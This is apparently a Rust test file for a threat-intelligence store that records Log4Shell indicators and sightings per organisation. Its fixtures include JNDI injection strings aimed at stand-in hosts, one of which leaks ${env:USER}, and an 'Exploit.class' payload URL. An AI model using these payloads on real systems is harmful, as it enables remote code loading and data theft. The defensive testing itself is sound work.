//! Indicators and sightings: an upload adds sightings and updates the
//! indicator totals in one transaction (counts add up, times widen, rules
//! unite), values are keyed normalised, lists filter and page, everything is
//! scoped to its organisation, invalid uploads store nothing, and the export
//! carries both; on every backend.

use jiff::Timestamp;
use vigilo_core::indicator::{Indicator, IndicatorRole, Observable, ObservableKind};
use vigilo_store::{
    Actor, IndicatorFilter, Page, SightingFilter, StoreError, StoredIndicator, micros_to_rfc3339,
};
use vigilo_test_support::for_each_backend;

use crate::support::{open, org};

fn actor(org_id: &str) -> Actor {
    Actor {
        actor: "token:test".into(),
        org_id: Some(org_id.into()),
        ..Actor::default()
    }
}

fn t(s: &str) -> Option<Timestamp> {
    Some(s.parse().unwrap())
}

fn ind(
    kind: ObservableKind,
    value: &str,
    role: IndicatorRole,
    rules: &[&str],
    count: u64,
    first: Option<&str>,
    last: Option<&str>,
) -> Indicator {
    Indicator {
        observable: Observable {
            kind,
            value: value.into(),
        },
        role,
        rules: rules.iter().map(|r| r.to_string()).collect(),
        count,
        first_seen: first.and_then(t),
        last_seen: last.and_then(t),
        example: format!("${{jndi:ldap://{value}/a}}"),
    }
}

fn callback(value: &str, count: u64, first: &str, last: &str) -> Indicator {
    ind(
        ObservableKind::DomainName,
        value,
        IndicatorRole::Callback,
        &["log4shell-jndi"],
        count,
        Some(first),
        Some(last),
    )
}

fn rfc(micros: Option<i64>) -> Option<String> {
    micros.map(micros_to_rfc3339)
}

async fn all_indicators(
    store: &vigilo_store::Store,
    org: &str,
    filter: &IndicatorFilter,
) -> Vec<StoredIndicator> {
    store
        .list_indicators(org, filter, &Page::first(1000))
        .await
        .unwrap()
}

#[tokio::test]
async fn repeated_uploads_add_counts_and_widen_times() {
    for_each_backend(|db| async move {
        let store = open(&db).await;
        let o = org(&store, "acme").await;
        let first = vec![
            callback(
                "Evil.Example.",
                3,
                "2021-12-10T10:00:00Z",
                "2021-12-10T12:00:00Z",
            ),
            ind(
                ObservableKind::Ipv4Addr,
                "192.0.2.7",
                IndicatorRole::Source,
                &["log4shell-jndi"],
                3,
                Some("2021-12-10T10:00:00Z"),
                Some("2021-12-10T12:00:00Z"),
            ),
            ind(
                ObservableKind::Url,
                "http://198.51.100.9:8000/Exploit.class",
                IndicatorRole::Payload,
                &["log4shell-jndi"],
                1,
                None,
                None,
            ),
        ];
        let up = store
            .upload_sightings(&actor(&o.id), &o.id, "web-01", &first)
            .await
            .unwrap();
        assert_eq!(
            (up.indicators, up.created, up.sightings, up.hits),
            (3, 3, 3, 7)
        );
        assert_eq!(
            uuid::Uuid::parse_str(&up.upload_id)
                .unwrap()
                .get_version_num(),
            7
        );
        let list = all_indicators(&store, &o.id, &IndicatorFilter::default()).await;
        assert_eq!(list.len(), 3);
        let evil = list
            .iter()
            .find(|i| i.kind == ObservableKind::DomainName)
            .unwrap()
            .clone();
        assert_eq!(evil.value, "evil.example", "keyed normalised");
        assert_eq!(evil.count, 3);
        assert_eq!(evil.sightings, 1);
        assert_eq!(evil.rules, ["log4shell-jndi"]);
        assert_eq!(evil.example, "${jndi:ldap://Evil.Example./a}");
        assert_eq!(
            rfc(evil.first_seen).as_deref(),
            Some("2021-12-10T10:00:00Z")
        );
        let url = list.iter().find(|i| i.kind == ObservableKind::Url).unwrap();
        assert_eq!((url.first_seen, url.last_seen), (None, None));

        // A second sensor sees the same host earlier and later, under another
        // rule; the times widen, the counts add up, the rules unite, the
        // first example stays.
        let mut again = callback(
            "evil.example",
            5,
            "2021-12-09T08:00:00Z",
            "2021-12-11T09:30:00Z",
        );
        again.rules = vec!["log4shell-jndi-exfil".into(), "log4shell-jndi".into()];
        again.example = "${jndi:ldap://${env:USER}.evil.example/a}".into();
        let mut url_again = list
            .iter()
            .find(|i| i.kind == ObservableKind::Url)
            .map(|u| {
                ind(
                    ObservableKind::Url,
                    &u.value,
                    IndicatorRole::Payload,
                    &["log4shell-jndi"],
                    2,
                    Some("2021-12-12T00:00:00Z"),
                    Some("2021-12-12T01:00:00Z"),
                )
            })
            .unwrap();
        url_again.example.clear();
        let up2 = store
            .upload_sightings(&actor(&o.id), &o.id, "web-02", &[again, url_again])
            .await
            .unwrap();
        assert_eq!((up2.indicators, up2.created, up2.sightings), (2, 0, 2));
        assert_ne!(up2.upload_id, up.upload_id);
        let evil2 = store.indicator(&o.id, &evil.id).await.unwrap().unwrap();
        assert_eq!(evil2.id, evil.id);
        assert_eq!(evil2.count, 8);
        assert_eq!(evil2.sightings, 2);
        assert_eq!(evil2.rules, ["log4shell-jndi", "log4shell-jndi-exfil"]);
        assert_eq!(
            rfc(evil2.first_seen).as_deref(),
            Some("2021-12-09T08:00:00Z")
        );
        assert_eq!(
            rfc(evil2.last_seen).as_deref(),
            Some("2021-12-11T09:30:00Z")
        );
        assert_eq!(evil2.example, evil.example);
        assert_eq!(evil2.created_at, evil.created_at);
        assert!(evil2.updated_at >= evil.updated_at);
        // Times known only from the second upload are taken as they are.
        let url2 = all_indicators(
            &store,
            &o.id,
            &IndicatorFilter {
                kind: Some(ObservableKind::Url),
                ..IndicatorFilter::default()
            },
        )
        .await;
        assert_eq!(url2.len(), 1);
        assert_eq!(url2[0].count, 3);
        assert_eq!(
            rfc(url2[0].first_seen).as_deref(),
            Some("2021-12-12T00:00:00Z")
        );
        assert!(url2[0].example.contains("198.51.100.9"));

        // The sightings: one per indicator per upload, in upload order.
        let s = store
            .list_sightings(
                &o.id,
                &SightingFilter {
                    indicator: Some(evil.id.clone()),
                    ..SightingFilter::default()
                },
                &Page::first(100),
            )
            .await
            .unwrap();
        assert_eq!(s.len(), 2);
        assert_eq!((s[0].sensor.as_str(), s[0].count), ("web-01", 3), "{s:?}");
        assert_eq!((s[1].sensor.as_str(), s[1].count), ("web-02", 5));
        assert_eq!(s[1].upload_id, up2.upload_id);
        assert_eq!(s[1].value, "evil.example");
        assert_eq!(s[1].role, IndicatorRole::Callback);
        assert_eq!(s[1].uploaded_by, "token:test");
        assert_eq!(
            rfc(s[1].first_seen).as_deref(),
            Some("2021-12-09T08:00:00Z")
        );
        let by_upload = store
            .list_sightings(
                &o.id,
                &SightingFilter {
                    upload: Some(up.upload_id.clone()),
                    ..SightingFilter::default()
                },
                &Page::first(100),
            )
            .await
            .unwrap();
        assert_eq!(by_upload.len(), 3);
        let by_sensor = store
            .list_sightings(
                &o.id,
                &SightingFilter {
                    sensor: Some("web-02".into()),
                    ..SightingFilter::default()
                },
                &Page::first(100),
            )
            .await
            .unwrap();
        assert_eq!(by_sensor.len(), 2);
        let all = store
            .list_sightings(&o.id, &SightingFilter::default(), &Page::first(100))
            .await
            .unwrap();
        assert_eq!(all.len(), 5);
        assert!(all.windows(2).all(|w| w[0].id < w[1].id));

        // Each upload is one audit event with its counts.
        let events = store.audit_events(Some(&o.id), 0, 1000).await.unwrap();
        let uploads: Vec<_> = events
            .iter()
            .filter(|e| e.action == "sightings.upload")
            .collect();
        assert_eq!(uploads.len(), 2);
        assert_eq!(uploads[0].object, format!("upload:{}", up.upload_id));
        assert_eq!(uploads[0].actor, "token:test");
        let detail: serde_json::Value =
            serde_json::from_str(uploads[1].detail.as_deref().unwrap()).unwrap();
        assert_eq!(detail["sensor"], "web-02");
        assert_eq!(detail["indicators"], 2);
        assert_eq!(detail["created"], 0);
        assert_eq!(detail["hits"], 7);
        assert!(store.verify_audit(None).await.unwrap().broken.is_none());
    })
    .await;
}

#[tokio::test]
async fn lists_filter_and_page() {
    for_each_backend(|db| async move {
        let store = open(&db).await;
        let o = org(&store, "acme").await;
        let mut list: Vec<Indicator> = (0..7)
            .map(|i| {
                callback(
                    &format!("host-{i}.evil.example"),
                    1,
                    &format!("2021-12-1{i}T00:00:00Z"),
                    &format!("2021-12-1{i}T00:00:00Z"),
                )
            })
            .collect();
        list.push(ind(
            ObservableKind::Ipv6Addr,
            "2001:DB8::7",
            IndicatorRole::Source,
            &["log4shell-jndi"],
            1,
            None,
            None,
        ));
        list.push(ind(
            ObservableKind::DomainName,
            "odd_name.example",
            IndicatorRole::Callback,
            &["log4shell-jndi"],
            1,
            None,
            None,
        ));
        store
            .upload_sightings(&actor(&o.id), &o.id, "web-01", &list)
            .await
            .unwrap();
        let count = |f: IndicatorFilter| {
            let store = store.clone();
            let org = o.id.clone();
            async move { all_indicators(&store, &org, &f).await.len() }
        };
        assert_eq!(count(IndicatorFilter::default()).await, 9);
        let role = |r| IndicatorFilter {
            role: Some(r),
            ..IndicatorFilter::default()
        };
        assert_eq!(count(role(IndicatorRole::Source)).await, 1);
        assert_eq!(count(role(IndicatorRole::Payload)).await, 0);
        let kind = |k| IndicatorFilter {
            kind: Some(k),
            ..IndicatorFilter::default()
        };
        assert_eq!(count(kind(ObservableKind::Ipv6Addr)).await, 1);
        assert_eq!(count(kind(ObservableKind::DomainName)).await, 8);
        let q = |s: &str| IndicatorFilter {
            q: Some(s.into()),
            ..IndicatorFilter::default()
        };
        assert_eq!(count(q("HOST-3")).await, 1, "case-insensitive");
        assert_eq!(count(q("evil")).await, 7);
        assert_eq!(count(q("db8::7")).await, 1, "the canonical form is stored");
        // LIKE's wildcards are literal.
        assert_eq!(count(q("%")).await, 0);
        assert_eq!(count(q("_")).await, 1);
        assert_eq!(count(q("e_il")).await, 0);
        let since = IndicatorFilter {
            since: "2021-12-15T00:00:00Z"
                .parse::<Timestamp>()
                .ok()
                .map(|t| t.as_microsecond()),
            ..IndicatorFilter::default()
        };
        assert_eq!(count(since.clone()).await, 2, "15th and 16th; none untimed");
        assert_eq!(
            count(IndicatorFilter {
                q: Some("host-6".into()),
                ..since
            })
            .await,
            1
        );

        // Paging by id visits each indicator once.
        let mut seen = Vec::new();
        let mut page = Page::first(4);
        loop {
            let got = store
                .list_indicators(&o.id, &IndicatorFilter::default(), &page)
                .await
                .unwrap();
            assert!(got.len() <= 4);
            let Some(last) = got.last() else { break };
            page.after = Some(last.id.clone());
            seen.extend(got.into_iter().map(|i| i.id));
        }
        assert_eq!(seen.len(), 9);
        let mut sorted = seen.clone();
        sorted.sort();
        sorted.dedup();
        assert_eq!(sorted, seen, "ordered by id, no repeats");
        let s = store
            .list_sightings(&o.id, &SightingFilter::default(), &Page::first(5))
            .await
            .unwrap();
        assert_eq!(s.len(), 5);
        let rest = store
            .list_sightings(
                &o.id,
                &SightingFilter::default(),
                &Page {
                    after: Some(s[4].id.clone()),
                    limit: 100,
                },
            )
            .await
            .unwrap();
        assert_eq!(rest.len(), 4);
    })
    .await;
}

#[tokio::test]
async fn indicators_are_scoped_to_their_organisation() {
    for_each_backend(|db| async move {
        let store = open(&db).await;
        let a = org(&store, "alpha").await;
        let b = org(&store, "bravo").await;
        let same = callback(
            "shared.evil.example",
            2,
            "2021-12-10T00:00:00Z",
            "2021-12-10T01:00:00Z",
        );
        store
            .upload_sightings(
                &actor(&a.id),
                &a.id,
                "a-sensor",
                std::slice::from_ref(&same),
            )
            .await
            .unwrap();
        let ub = store
            .upload_sightings(&actor(&b.id), &b.id, "b-sensor", &[same])
            .await
            .unwrap();
        // The same observable in two organisations is two indicators.
        assert_eq!(ub.created, 1);
        let la = all_indicators(&store, &a.id, &IndicatorFilter::default()).await;
        let lb = all_indicators(&store, &b.id, &IndicatorFilter::default()).await;
        assert_eq!((la.len(), lb.len()), (1, 1));
        assert_ne!(la[0].id, lb[0].id);
        assert_eq!((la[0].count, lb[0].count), (2, 2));
        assert_eq!(store.indicator(&b.id, &la[0].id).await.unwrap(), None);
        let sb = store
            .list_sightings(
                &b.id,
                &SightingFilter {
                    indicator: Some(la[0].id.clone()),
                    ..SightingFilter::default()
                },
                &Page::first(100),
            )
            .await
            .unwrap();
        assert!(sb.is_empty(), "B cannot read A's sightings by id");
        let all_b = store
            .list_sightings(&b.id, &SightingFilter::default(), &Page::first(100))
            .await
            .unwrap();
        assert_eq!(all_b.len(), 1);
        assert_eq!(all_b[0].sensor, "b-sensor");
    })
    .await;
}

#[tokio::test]
async fn invalid_uploads_store_nothing() {
    for_each_backend(|db| async move {
        let store = open(&db).await;
        let o = org(&store, "acme").await;
        let before = store.audit_events(None, 0, 10_000).await.unwrap().len();
        let good = callback(
            "evil.example",
            1,
            "2021-12-10T00:00:00Z",
            "2021-12-10T00:00:00Z",
        );
        let with = |f: &dyn Fn(&mut Indicator)| {
            let mut i = good.clone();
            f(&mut i);
            vec![good.clone(), i]
        };
        let cases: Vec<(&str, Vec<Indicator>, &str)> = vec![
            ("", vec![good.clone()], "sensor"),
            ("a\u{7}b", vec![good.clone()], "sensor"),
            (
                "s",
                with(&|i| i.observable.value = "not a host".into()),
                "[1].value",
            ),
            (
                "s",
                with(&|i| i.observable.kind = ObservableKind::Ipv4Addr),
                "[1].value",
            ),
            ("s", with(&|i| i.count = 0), "[1].count"),
            (
                "s",
                with(&|i| i.first_seen = t("2021-12-11T00:00:00Z")),
                "[1].first_seen",
            ),
            ("s", with(&|i| i.rules = vec!["a b".into()]), "[1].rules"),
            ("s", with(&|i| i.example = "x".repeat(4097)), "[1].example"),
            ("s", with(&|i| i.example = "\0".into()), "[1].example"),
        ];
        for (sensor, list, want) in cases {
            match store
                .upload_sightings(&actor(&o.id), &o.id, sensor, &list)
                .await
            {
                Err(StoreError::InvalidField { field, message }) => {
                    let text = format!("{field}: {message}");
                    assert!(text.contains(want), "{want}: {text}");
                }
                other => panic!("expected an invalid field {want}, got {other:?}"),
            }
        }
        assert!(
            all_indicators(&store, &o.id, &IndicatorFilter::default())
                .await
                .is_empty()
        );
        assert_eq!(
            store.audit_events(None, 0, 10_000).await.unwrap().len(),
            before
        );
        let err = store
            .upload_sightings(&Actor::system(), "no-such-org", "s", &[good])
            .await
            .unwrap_err();
        assert!(matches!(err, StoreError::NotFound { .. }), "{err}");
        // An empty upload is valid: it records that the sensor reported.
        let empty = store
            .upload_sightings(&actor(&o.id), &o.id, "quiet", &[])
            .await
            .unwrap();
        assert_eq!((empty.indicators, empty.sightings), (0, 0));
    })
    .await;
}

#[tokio::test]
async fn large_uploads_are_written_in_batches() {
    for_each_backend(|db| async move {
        let store = open(&db).await;
        let o = org(&store, "acme").await;
        let list: Vec<Indicator> = (0..1234)
            .map(|i| {
                ind(
                    ObservableKind::Ipv4Addr,
                    &format!("10.0.{}.{}", i / 256, i % 256),
                    IndicatorRole::Source,
                    &["log4shell-jndi"],
                    2,
                    None,
                    None,
                )
            })
            .collect();
        let up = store
            .upload_sightings(&actor(&o.id), &o.id, "s", &list)
            .await
            .unwrap();
        assert_eq!((up.created, up.sightings, up.hits), (1234, 1234, 2468));
        let up = store
            .upload_sightings(&actor(&o.id), &o.id, "s", &list)
            .await
            .unwrap();
        assert_eq!((up.created, up.indicators), (0, 1234));
        let all = store
            .list_indicators(&o.id, &IndicatorFilter::default(), &Page::first(5000))
            .await
            .unwrap();
        assert_eq!(all.len(), 1234);
        assert!(all.iter().all(|i| i.count == 4 && i.sightings == 2));
    })
    .await;
}

#[tokio::test]
async fn the_export_carries_indicators_and_sightings() {
    for_each_backend(|db| async move {
        let store = open(&db).await;
        let o = org(&store, "acme").await;
        let other = org(&store, "other").await;
        let hit = callback(
            "evil.example",
            3,
            "2021-12-10T10:00:00Z",
            "2021-12-10T12:00:00Z",
        );
        store
            .upload_sightings(&actor(&o.id), &o.id, "web-01", std::slice::from_ref(&hit))
            .await
            .unwrap();
        store
            .upload_sightings(&actor(&o.id), &o.id, "web-02", std::slice::from_ref(&hit))
            .await
            .unwrap();
        let mut secret = hit;
        secret.observable.value = "other-org.example".into();
        store
            .upload_sightings(&actor(&other.id), &other.id, "x", &[secret])
            .await
            .unwrap();
        let dir = tempfile::tempdir().unwrap();
        let out = dir.path().join("export");
        let manifest = store
            .export_org(&Actor::system(), "acme", &out)
            .await
            .unwrap();
        let read = |name: &str| -> Vec<serde_json::Value> {
            std::fs::read_to_string(out.join(name))
                .unwrap()
                .lines()
                .map(|l| serde_json::from_str(l).unwrap())
                .collect()
        };
        let indicators = read("indicators.jsonl");
        assert_eq!(indicators.len(), 1);
        let i = &indicators[0];
        assert_eq!(i["kind"], "domain-name");
        assert_eq!(i["value"], "evil.example");
        assert_eq!(i["role"], "callback");
        assert_eq!(i["count"], 6);
        assert_eq!(i["sightings"], 2);
        assert_eq!(i["rules"], serde_json::json!(["log4shell-jndi"]));
        assert_eq!(i["first_seen"], "2021-12-10T10:00:00Z");
        assert_eq!(i["last_seen"], "2021-12-10T12:00:00Z");
        let sightings = read("sightings.jsonl");
        assert_eq!(sightings.len(), 2);
        assert_eq!(sightings[0]["sensor"], "web-01");
        assert_eq!(sightings[1]["sensor"], "web-02");
        assert_eq!(sightings[1]["indicator_id"], i["id"]);
        assert_eq!(sightings[1]["count"], 3);
        assert_eq!(manifest.files["indicators.jsonl"].records, 1);
        assert_eq!(manifest.files["sightings.jsonl"].records, 2);
        for name in ["indicators.jsonl", "sightings.jsonl"] {
            let text = std::fs::read_to_string(out.join(name)).unwrap();
            assert!(
                !text.contains("other-org"),
                "{name} holds another org's data"
            );
        }
    })
    .await;
}
